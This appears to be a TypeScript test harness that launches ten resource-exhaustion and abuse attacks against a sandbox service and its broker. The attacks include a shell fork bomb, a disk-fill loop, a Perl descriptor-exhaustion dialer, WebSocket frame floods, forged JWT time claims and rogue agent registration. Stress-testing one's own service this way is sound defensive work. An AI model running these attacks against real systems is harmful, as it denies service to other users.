import { randomBytes } from 'node:crypto'
import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { WebSocket } from 'ws'

/** The session of the attacker: everything that a user with an ordinary token has. */
export type Foothold = {
  brokerUrl: string
  grant: { token: string; sandbox: { id: string; http_base_url: string; ws_base_url: string } }
}
/** What goes on until it is disposed, and is cleaned up then. */
export type Attack = { name: string; begin(foothold: Foothold): Promise<AsyncDisposable> }

const bearer = ({ grant }: Foothold) => ({ authorization: `Bearer ${grant.token}` })

/** Calls `turn` again and again in `lanes`, whatever comes of it, until the end. */
const repeat = (lanes: number, turn: (signal: AbortSignal) => Promise<unknown>): AsyncDisposable => {
  const end = new AbortController()
  const lane = async (): Promise<void> => {
    while (!end.signal.aborted) {
      await turn(end.signal).catch(() => {})
      // A refusal that needs no waiting must not keep the event loop of the test from everything else.
      await new Promise((resolve) => setImmediate(resolve))
    }
  }
  const running = Promise.all(Array.from({ length: lanes }, lane))
  return {
    async [Symbol.asyncDispose]() {
      end.abort()
      await running
    },
  }
}

const exec = (foothold: Foothold, body: object, signal: AbortSignal | null = null): Promise<Response> =>
  fetch(`${foothold.grant.sandbox.http_base_url}/exec`, {
    method: 'POST',
    headers: { ...bearer(foothold), 'content-type': 'application/json' },
    body: JSON.stringify(body),
    signal,
  })

/** Runs a shell command for as long as the attack lasts; all of its processes end with it. */
const command = async (foothold: Foothold, script: string): Promise<AsyncDisposable> => {
  const socket = new WebSocket(`${foothold.grant.sandbox.ws_base_url}/exec/ws`, 'boxoffice.v1.binary', { headers: bearer(foothold) })
  const closed = once(socket, 'close')
  socket.on('error', () => {})
  await once(socket, 'open')
  socket.send(JSON.stringify({ type: 'start', argv: ['sh', '-c', script], stdin: 'closed' }))
  await once(socket, 'message')
  return {
    async [Symbol.asyncDispose]() {
      if (socket.readyState === WebSocket.OPEN) socket.send(JSON.stringify({ type: 'signal', signal: 'KILL' }))
      else socket.terminate()
      await closed
    },
  }
}

/** A connection that sends a request and reads nothing of the answer. */
const deaf = (url: string, head: readonly string[], body: string): Socket => {
  const { hostname, port, pathname } = new URL(url)
  const socket = connect(Number(port), hostname)
  socket.on('error', () => {})
  socket.pause()
  const length = `content-length: ${Buffer.byteLength(body)}`
  socket.write(`${[`POST ${pathname} HTTP/1.1`, `host: ${hostname}:${port}`, ...head, length].join('\r\n')}\r\n\r\n${body}`)
  return socket
}

const upgrade = (url: string): Socket => {
  const { hostname, port, pathname } = new URL(url)
  const socket = connect(Number(port), hostname)
  socket.on('error', () => {})
  const key = randomBytes(16).toString('base64')
  const head = ['connection: Upgrade', 'upgrade: websocket', 'sec-websocket-version: 13', `sec-websocket-key: ${key}`]
  socket.write(`${[`GET ${pathname} HTTP/1.1`, `host: ${hostname}:${port}`, ...head].join('\r\n')}\r\n\r\n`)
  return socket
}

const closing = (sockets: readonly Socket[]): AsyncDisposable => ({
  async [Symbol.asyncDispose]() {
    for (const socket of sockets) socket.destroy()
  },
})

const DIAL = `exec perl -e 'use Socket; for (1..7) { last unless fork() } while (1) { my @s; for (1..200) { socket(my $s, AF_UNIX, SOCK_STREAM, 0) or last; connect($s, pack_sockaddr_un("/.boxoffice/link/link.sock")) or last; push @s, $s } select(undef, undef, undef, 0.05) }'`

/** The head of a masked binary frame of 1 MiB that is not the last of its message. */
const FRAGMENT = Buffer.concat([Buffer.from([0x02, 0xff, 0, 0, 0, 0, 0, 0x10, 0, 0, 0, 0, 0, 0]), Buffer.alloc(1024 * 1024)])

/** Ten ways in which a user with an ordinary session, or a stranger, has taken something from the others. */
export const ATTACKS: readonly Attack[] = [
  {
    name: 'disk',
    begin: (foothold) => command(foothold, 'while :; do head -c 64M /dev/zero > fill; head -c 64M /dev/zero >> fill; rm fill; done'),
  },
  {
    name: 'memory',
    // Each answer is 200 MB of JSON, and nobody reads it.
    async begin(foothold) {
      const script = 'head -c 16777216 /dev/zero; head -c 16777216 /dev/zero >&2'
      const head = [`authorization: Bearer ${foothold.grant.token}`, 'content-type: application/json']
      const body = JSON.stringify({ command: script, max_output_bytes: 16_777_216 })
      return closing(Array.from({ length: 34 }, () => deaf(`${foothold.grant.sandbox.http_base_url}/exec`, head, body)))
    },
  },
  { name: 'descriptors', begin: (foothold) => command(foothold, DIAL) },
  { name: 'processes', begin: (foothold) => command(foothold, 'bomb() { bomb | bomb & }; while :; do bomb; sleep 0.05; done') },
  {
    name: 'sockets',
    async begin({ grant }) {
      const sockets = Array.from({ length: 100 }, () => upgrade(`${grant.sandbox.ws_base_url.replace(/^ws/, 'http')}/exec/ws`))
      for (const socket of sockets) socket.once('data', () => socket.write(FRAGMENT))
      return closing(sockets)
    },
  },
  {
    name: 'slow readers',
    async begin(foothold) {
      const sockets = Array.from(
        { length: 16 },
        () => new WebSocket(`${foothold.grant.sandbox.ws_base_url}/exec/ws`, 'boxoffice.v1.binary', { headers: bearer(foothold) }),
      )
      for (const socket of sockets) {
        socket.on('error', () => {})
        socket.on('open', () => socket.send(JSON.stringify({ type: 'start', argv: ['yes'], stdin: 'closed' })))
        socket.once('message', () => socket.pause())
      }
      return {
        async [Symbol.asyncDispose]() {
          for (const socket of sockets) socket.terminate()
        },
      }
    },
  },
  {
    name: 'floods',
    begin: async ({ grant, brokerUrl }) =>
      repeat(16, async (signal) => {
        const refused = { headers: { authorization: `Bearer ${randomBytes(32).toString('base64url')}` }, signal }
        await (await fetch(`${grant.sandbox.http_base_url}/execs`, refused)).arrayBuffer()
        await (await fetch(`${brokerUrl}/v1/profiles`, refused)).arrayBuffer()
      }),
  },
  {
    name: 'deep paths',
    begin: async (foothold) =>
      repeat(4, async (signal) => {
        const path = Array.from({ length: 1500 }, () => 'a').join('/')
        const url = `${foothold.grant.sandbox.http_base_url}/files/upload?path=${encodeURIComponent(path)}`
        await (await fetch(url, { method: 'POST', headers: bearer(foothold), body: 'x', signal })).arrayBuffer()
        const script = `perl -e 'for (1..500) { mkdir "d"; chdir "d" or last }'; rm -rf d`
        await (await exec(foothold, { command: script }, signal)).arrayBuffer()
      }),
  },
  {
    name: 'clock',
    // Tokens of another time: before the present and after it, unsigned.
    begin: async ({ grant }) =>
      repeat(8, async (signal) => {
        const [header, payload = '', signature] = grant.token.split('.')
        const claims = JSON.parse(Buffer.from(payload, 'base64url').toString()) as Record<string, number>
        const shift = Math.floor((Math.random() - 0.5) * 10_000_000)
        const moved = Object.fromEntries(
          ['iat', 'nbf', 'exp'].flatMap((name) => (name in claims ? [[name, Number(claims[name]) + shift]] : [])),
        )
        const forged = [header, Buffer.from(JSON.stringify({ ...claims, ...moved })).toString('base64url'), signature].join('.')
        const init = { headers: { authorization: `Bearer ${forged}` }, signal }
        await (await fetch(`${grant.sandbox.http_base_url}/execs`, init)).arrayBuffer()
      }),
  },
  {
    name: 'rogue agent',
    begin: async ({ brokerUrl, grant }) =>
      repeat(8, async (signal) => {
        const report = { install_id: randomBytes(8).toString('hex'), instance_id: 'rogue', public_url: 'http://127.0.0.1:9', sandboxes: [] }
        for (const path of ['register', `${grant.sandbox.id}/heartbeat`]) {
          const headers = { authorization: `Bearer ${grant.token}`, 'content-type': 'application/json' }
          await (
            await fetch(`${brokerUrl}/v1/agents/${path}`, { method: 'POST', headers, body: JSON.stringify(report), signal })
          ).arrayBuffer()
        }
      }),
  },
]
